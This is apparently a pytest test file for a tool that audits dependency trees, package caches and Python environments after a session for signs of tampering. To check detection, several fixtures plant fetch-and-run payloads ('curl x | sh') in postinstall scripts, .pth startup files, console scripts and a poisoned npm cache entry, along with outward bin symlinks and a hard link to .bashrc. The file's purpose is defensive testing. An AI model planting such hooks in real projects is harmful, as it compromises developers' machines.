"""Dependency trees, environments and package caches after an ordinary install: judged by what they
are, one finding per tree at most and nothing that blocks the next session; what an install does not
do is still found. Each case is a real tree changed as the tool (or an agent) changes it, audited
through the same code as after a session (capture, then audit_mount)."""

from __future__ import annotations

import hashlib
import os
from collections.abc import Callable
from pathlib import Path

from dejima.orchestration.exit_audit import Mount, audit_mount, capture

SITE = ".local/venvs/project/lib/python3.11/site-packages"


def write(root: Path, path: str, text: str | bytes, mode: int = 0o644) -> Path:
    target = root / path
    target.parent.mkdir(parents=True, exist_ok=True)
    target.unlink(missing_ok=True)  # a new file, as the tools write them (never through a hard link)
    if isinstance(text, bytes):
        target.write_bytes(text)
    else:
        target.write_text(text)
    target.chmod(mode)
    return target


def audited(root: Path, kind: str, change: Callable[[Path], object]) -> list[tuple[str, str, str]]:
    state = capture(Mount(kind, root))
    change(root)
    found, _ = audit_mount(state)
    return [(f.rule, f.severity, f.path) for f in found]


def uv_sync(root: Path) -> None:
    """What `uv sync` leaves in the session home: its cache (lock files 0666, archive names that may
    start with '-', a .gitignore of '*') hard-linked into the project environment."""
    write(root, ".cache/uv/.gitignore", "*\n")
    write(root, ".cache/uv/.lock", "", 0o666)
    write(root, ".cache/uv/wheels-v5/pypi/six/1.16.0-py2.py3-none-any.lock", "", 0o666)
    write(root, ".local/venvs/project/pyvenv.cfg", "home = /usr/bin\n")
    (root / ".local/venvs/project/bin").mkdir(parents=True)
    os.symlink("/usr/bin/python3", root / ".local/venvs/project/bin/python")
    files = {"six.py": "import sys\n", "requests/__init__.py": "# requests\n", "../../../bin/six-cli": "#!/bin/sh\n"}
    record = "".join(f"{name},{record_hash(text)},{len(text)}\n" for name, text in files.items())
    for name, text in {**files, "six-1.16.0.dist-info/RECORD": record + "six-1.16.0.dist-info/RECORD,,\n"}.items():
        cached = write(root, f".cache/uv/archive-v0/-bl_yQz/{name.replace('../', '')}", text)
        installed = root / os.path.normpath(f"{SITE}/{name}")
        installed.parent.mkdir(parents=True, exist_ok=True)
        os.link(cached, installed)
    write(root, f"{SITE}/_virtualenv.pth", "import _virtualenv\n")


def record_hash(text: str) -> str:
    import base64

    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).decode().rstrip("=")


def test_uv_sync_in_the_home_is_one_low_finding(tmp_path: Path) -> None:
    assert audited(tmp_path, "home", uv_sync) == [("B10", "low", ".local/venvs/project")]


def test_a_hard_link_from_a_cache_to_a_watched_place_is_still_found(tmp_path: Path) -> None:
    def planted(root: Path) -> None:
        uv_sync(root)
        os.link(root / ".cache/uv/archive-v0/-bl_yQz/six.py", root / ".bashrc")

    found = audited(tmp_path, "home", planted)
    assert ("F02", "high", ".cache/uv/archive-v0/-bl_yQz/six.py") in found


def npm_entry(root: Path, content: bytes) -> Path:
    digest = hashlib.sha512(content).hexdigest()
    return write(root, f".npm/_cacache/content-v2/sha512/{digest[:2]}/{digest[2:4]}/{digest[4:]}", content, 0o444)


def test_a_rewritten_npm_cache_entry_with_its_own_content_is_quiet(tmp_path: Path) -> None:
    npm_entry(tmp_path, b'{"name": "express"}')
    assert audited(tmp_path, "home", lambda root: npm_entry(root, b'{"name": "express"}')) == []


def test_an_npm_cache_entry_that_no_longer_hashes_to_its_name_is_found(tmp_path: Path) -> None:
    entry = npm_entry(tmp_path, b"module.exports = 1\n")

    def poisoned(root: Path) -> None:
        write(root, str(entry.relative_to(root)), b"require('child_process').exec('curl x | sh')\n", 0o444)

    [(rule, severity, path)] = audited(tmp_path, "home", poisoned)
    assert (rule, path) == ("M01", str(entry.relative_to(tmp_path))) and severity in ("medium", "high")


def installed(root: Path) -> None:
    write(root, "package.json", '{"dependencies": {"left-pad": "1.3.0"}}\n')
    write(root, "node_modules/.package-lock.json", '{"lockfileVersion": 3}\n')
    write(root, "node_modules/left-pad/package.json", '{"name": "left-pad", "version": "1.3.0"}\n')
    write(root, "node_modules/left-pad/index.js", "module.exports = leftPad;\n")


def test_npm_rewriting_its_hidden_lockfile_is_an_install_not_tampering(tmp_path: Path) -> None:
    installed(tmp_path)

    def reinstall(root: Path) -> None:
        with (root / "node_modules/.package-lock.json").open("w") as file:  # in place, as npm writes it
            file.write('{"lockfileVersion": 3, "packages": {}}\n')

    assert audited(tmp_path, "workspace", reinstall) == [("B07", "low", "node_modules")]


def test_an_installed_file_modified_in_place_is_tampering(tmp_path: Path) -> None:
    installed(tmp_path)

    def tamper(root: Path) -> None:
        with (root / "node_modules/left-pad/index.js").open("a") as file:
            file.write("require('child_process').exec('id');\n")

    assert audited(tmp_path, "workspace", tamper) == [("B07", "high", "node_modules")]


# --- tampering after an install, each beside the benign change it could be mistaken for -----------

DEPENDENCIES = {"left-pad": "1.3.0", "esbuild": "0.20.0"}
LOCK = {"name": "p", "lockfileVersion": 3, "packages": {
    "": {"dependencies": DEPENDENCIES},
    "node_modules/left-pad": {"version": "1.3.0", "integrity": "sha512-aaa"},
    "node_modules/esbuild": {"version": "0.20.0", "integrity": "sha512-bbb", "hasInstallScript": True,
                             "bin": {"esbuild": "bin/esbuild"}}}}


def node_project(root: Path) -> None:
    """A project as npm leaves it: package.json, package-lock.json, the tree, its .bin links."""
    import json

    write(root, "package.json", json.dumps({"name": "p", "dependencies": DEPENDENCIES}))
    write(root, "package-lock.json", json.dumps(LOCK, indent=2))
    write(root, "node_modules/.package-lock.json", json.dumps(LOCK))
    write(root, "node_modules/left-pad/package.json", '{"name": "left-pad", "version": "1.3.0", "main": "index.js"}')
    write(root, "node_modules/left-pad/index.js", "module.exports = function leftPad() {};\n")
    write(root, "node_modules/esbuild/package.json", '{"name": "esbuild", "version": "0.20.0", '
          '"scripts": {"postinstall": "node install.js"}}')
    write(root, "node_modules/esbuild/bin/esbuild", "#!/usr/bin/env node\n", 0o755)
    (root / "node_modules/.bin").mkdir()
    os.symlink("../esbuild/bin/esbuild", root / "node_modules/.bin/esbuild")


def lock_with(root: Path, **versions: str) -> None:
    import json

    lock = json.loads((root / "package-lock.json").read_text())
    for name, version in versions.items():
        lock["packages"].setdefault(f"node_modules/{name}", {})["version"] = version
    write(root, "package-lock.json", json.dumps(lock, indent=2))


def reinstall_left_pad(root: Path, version: str = "1.3.1") -> None:
    """What npm does to update a package: the directory replaced whole, the lockfile updated."""
    import shutil

    shutil.rmtree(root / "node_modules/left-pad")
    write(root, "node_modules/left-pad/package.json", f'{{"name": "left-pad", "version": "{version}"}}')
    write(root, "node_modules/left-pad/index.js", "module.exports = function leftPad() { return 1; };\n")
    lock_with(root, **{"left-pad": version})


def appended(path: str, text: str) -> Callable[[Path], None]:
    def change(root: Path) -> None:
        with (root / path).open("a") as file:
            file.write(text)
    return change


def tree_severity(root: Path, change: Callable[[Path], object]) -> dict[str, str]:
    """path -> severity of the findings a change to the installed node project leaves."""
    node_project(root)
    return {path: severity for _, severity, path in audited(root, "workspace", change)}


# These trees' tarballs are in no cache: an install is unverifiable, medium (test_npm_verify.py has
# real ones, verified: low).
def test_a_line_added_to_an_installed_module_is_high_a_reinstall_is_medium(tmp_path: Path) -> None:
    assert tree_severity(tmp_path / "a", appended("node_modules/left-pad/index.js", "require('x');\n")) == {
        "node_modules": "high"}
    assert tree_severity(tmp_path / "b", reinstall_left_pad) == {"node_modules": "medium"}


def test_a_file_added_to_an_installed_package_is_high_a_new_package_is_medium(tmp_path: Path) -> None:
    def new_package(root: Path) -> None:
        write(root, "node_modules/is-odd/package.json", '{"name": "is-odd", "version": "3.0.1"}')
        write(root, "node_modules/is-odd/index.js", "module.exports = n => n % 2;\n")
        lock_with(root, **{"is-odd": "3.0.1"})

    planted = tree_severity(tmp_path / "a", lambda root: write(root, "node_modules/left-pad/extra.js", "x\n"))
    assert planted == {"node_modules": "high"}
    assert tree_severity(tmp_path / "b", new_package) == {"node_modules": "medium"}


def test_an_install_script_the_lockfile_does_not_record_is_high(tmp_path: Path) -> None:
    def postinstall(root: Path) -> None:
        write(root, "node_modules/left-pad/package.json", '{"name": "left-pad", "version": "1.3.0", '
              '"scripts": {"postinstall": "curl x | sh"}}')

    def reinstall_esbuild(root: Path) -> None:  # its own postinstall is in the lockfile (hasInstallScript)
        import shutil

        shutil.rmtree(root / "node_modules/esbuild")
        write(root, "node_modules/esbuild/package.json", '{"name": "esbuild", "version": "0.20.0", '
              '"scripts": {"postinstall": "node install.js"}}')
        write(root, "node_modules/esbuild/bin/esbuild", "#!/usr/bin/env node\n", 0o755)

    assert tree_severity(tmp_path / "a", postinstall) == {"node_modules": "high"}
    assert tree_severity(tmp_path / "b", reinstall_esbuild) == {"node_modules": "medium"}


def test_a_bin_link_npm_would_not_make_is_high_its_own_is_low(tmp_path: Path) -> None:
    def outward(root: Path) -> None:
        (root / "node_modules/.bin/esbuild").unlink()
        os.symlink("../../scripts/evil.sh", root / "node_modules/.bin/esbuild")

    def inward(root: Path) -> None:  # into the tree, but to no bin the lockfile records
        os.symlink("../left-pad/index.js", root / "node_modules/.bin/left-pad")

    def relinked(root: Path) -> None:  # what npm makes: the lockfile's bin for esbuild
        (root / "node_modules/.bin/esbuild").unlink()
        os.symlink("../esbuild/bin/esbuild", root / "node_modules/.bin/esbuild")

    assert tree_severity(tmp_path / "a", outward) == {"node_modules": "high"}
    assert tree_severity(tmp_path / "b", inward) == {"node_modules": "high"}
    assert tree_severity(tmp_path / "c", relinked) in ({}, {"node_modules": "low"})


def test_a_file_directly_in_node_modules_is_high(tmp_path: Path) -> None:
    assert tree_severity(tmp_path, lambda root: write(root, "node_modules/left-pad.js", "evil\n")) == {
        "node_modules": "high"}


def test_a_lockfile_edited_to_another_version_is_high_an_install_is_not(tmp_path: Path) -> None:
    edited = tree_severity(tmp_path / "a", lambda root: lock_with(root, **{"left-pad": "1.3.1"}))
    assert edited.get("package-lock.json") == "high"
    assert tree_severity(tmp_path / "b", reinstall_left_pad).get("package-lock.json") is None


def python_environment(root: Path, files: dict[str, str], env: str = ".venv") -> None:
    """An environment as an installer leaves it: pyvenv.cfg and a distribution with its RECORD (an
    existing environment: the distribution installed again)."""
    site = f"{env}/lib/python3.11/site-packages"
    if not (root / env / "pyvenv.cfg").exists():
        write(root, f"{env}/pyvenv.cfg", "home = /usr/bin\n")
    record = "".join(f"{name},{record_hash(text)},{len(text)}\n" for name, text in files.items())
    for name, text in {**files, "six-1.16.0.dist-info/RECORD": record + "six-1.16.0.dist-info/RECORD,,\n"}.items():
        write(root, os.path.normpath(f"{site}/{name}"), text, 0o755 if "/bin/" in name else 0o644)


DISTUTILS_SHIM = ("import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
                  "enabled and __import__('_distutils_hack').add_shim(); \n")  # setuptools' own .pth
SIX = {"six.py": "import sys\n", "distutils-precedence.pth": DISTUTILS_SHIM,
       "../../../bin/six-cli": "#!/usr/bin/python3\nimport six\n"}


def env_severity(root: Path, change: Callable[[Path], object]) -> dict[str, str]:
    python_environment(root, SIX)
    return {path: severity for _, severity, path in audited(root, "workspace", change)}


def test_a_pth_file_no_record_lists_is_found_one_a_record_lists_is_part_of_an_install(tmp_path: Path) -> None:
    site = ".venv/lib/python3.11/site-packages"
    planted = env_severity(tmp_path / "a", lambda root: write(root, f"{site}/zz-evil.pth", "import os\n"))
    assert planted == {f"{site}/zz-evil.pth": "critical", ".venv": "high"}

    def reinstalled(root: Path) -> None:  # an installer writes the distribution and its RECORD again
        python_environment(root, {**SIX, "six.py": "import sys  # 1.16.1\n"})

    assert env_severity(tmp_path / "b", reinstalled) == {".venv": "medium"}  # an install no lockfile pins
    assert "no installer makes" not in str(audited_evidence(tmp_path / "c", reinstalled))


def test_a_pth_with_an_import_line_of_its_own_is_high_even_when_a_record_lists_it(tmp_path: Path) -> None:
    """A RECORD is written in the tree too: an import line that no installer writes runs at every
    start whatever lists it. The installers' own (setuptools' shim, in SIX) stay part of the install."""
    def recorded_hook(root: Path) -> None:
        python_environment(root, {**SIX, "zz-hook.pth": "import os; os.system('curl x | sh')\n"})

    def path_entry(root: Path) -> None:  # an editable install of a src layout: a path, data
        python_environment(root, {**SIX, "__editable__.project-0.1.pth": "/work/project/src\n"})

    assert env_severity(tmp_path / "a", recorded_hook) == {".venv": "high"}
    assert env_severity(tmp_path / "b", path_entry) == {".venv": "medium"}  # no lockfile pins it


def test_a_console_script_rewritten_is_found(tmp_path: Path) -> None:
    rewritten = env_severity(tmp_path, lambda root: write(root, ".venv/bin/six-cli", "#!/bin/sh\ncurl x | sh\n", 0o755))
    assert rewritten == {".venv": "high"}
    assert "no installer makes" in str(audited_evidence(tmp_path / "again", lambda root: write(
        root, ".venv/bin/six-cli", "#!/bin/sh\ncurl x | sh\n", 0o755)))


def audited_evidence(root: Path, change: Callable[[Path], object]) -> list[str]:
    python_environment(root, SIX)
    state = capture(Mount("workspace", root))
    change(root)
    found, _ = audit_mount(state)
    return [f.evidence for f in found]


def test_a_cargo_build_is_one_medium_finding_naming_cargo_clean(tmp_path: Path) -> None:
    write(tmp_path, "Cargo.toml", '[package]\nname = "p"\nversion = "0.1.0"\n')
    write(tmp_path, "src/main.rs", "fn main() {}\n")

    def build(root: Path) -> None:  # what cargo leaves: outputs hard-linked, fingerprints, a tag
        write(root, "target/CACHEDIR.TAG", "Signature: 8a477f597d28d172789f06886806bc55\n")
        binary = write(root, "target/debug/deps/p-0123456789abcdef", "\x7fELF", 0o755)
        os.link(binary, root / "target/debug/p")
        write(root, "target/debug/.fingerprint/p-0123/bin-p", "abc\n")

    # No build output can be verified (cargo runs what it finds fresh): medium, test_cargo_verify.py.
    assert audited(tmp_path, "workspace", build) == [("B07", "medium", "target")]
    os.unlink(tmp_path / "target/debug/p")  # built again
    state = capture(Mount("workspace", tmp_path))
    build(tmp_path)
    [found] = audit_mount(state)[0]
    assert found.severity == "medium" and "`cargo clean` on the host" in found.evidence


def test_opencodes_project_id_in_git_is_low_and_anything_else_there_is_not(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    write(tmp_path, ".git/HEAD", "ref: refs/heads/main\n")
    root_commit = "4b825dc642cb6eb9a060e54bf8d69288fbee4904"
    assert audited(tmp_path, "workspace", lambda r: write(r, ".git/opencode", root_commit)) == [
        ("X03", "low", ".git/opencode")]
    assert audited(tmp_path, "workspace", lambda r: write(r, ".git/opencode", "#!/bin/sh\ncurl x | sh\n")) == [
        ("X03", "high", ".git/opencode")]  # a script there: its content rules raise it


def test_claude_codes_ordinary_home_files_are_low_at_most_and_their_neighbours_are_not(tmp_path: Path) -> None:
    def session(root: Path) -> None:
        (root / ".claude/projects/-home-dev-clw").mkdir(parents=True)  # its project folder: the path, '/' as '-'
        write(root, ".claude/plugins/store/cc-plugin-agents-md_builtin-b049b47b3618.json",
              '{"usage-rows-queued": "fd0030a5 claude-md-or-agents-md ok"}')

    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    assert audited(tmp_path / "a", "home", session) == [
        ("M02", "low", ".claude/plugins/store/cc-plugin-agents-md_builtin-b049b47b3618.json")]

    def planted(root: Path) -> None:
        (root / ".config/-rf").mkdir(parents=True)  # a leading '-' elsewhere
        write(root, ".claude/plugins/cache/market/x/hooks/hooks.json", '{"hooks": {}}')  # plugin code

    assert sorted(audited(tmp_path / "b", "home", planted)) == [
        ("F08", "medium", ".config/-rf"), ("M02", "medium", ".claude/plugins/cache/market/x/hooks/hooks.json")]


def test_a_hard_link_between_files_the_session_made_is_low_and_one_with_an_older_file_is_not(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()

    def build(root: Path) -> None:  # a build tool's copies: both names new
        os.link(write(root, "out/tool", "#!/bin/sh\n", 0o755), root / "out/tool-copy")

    assert audited(tmp_path / "a", "workspace", build) == [("F02", "low", "out/tool"), ("F02", "low", "out/tool-copy")]
    write(tmp_path / "b", "notes.txt", "kept\n")

    def shared(root: Path) -> None:  # a new name for a file that was there at the start
        os.link(root / "notes.txt", root / "other.txt")

    assert audited(tmp_path / "b", "workspace", shared) == [("F02", "medium", "notes.txt"),
                                                            ("F02", "medium", "other.txt")]
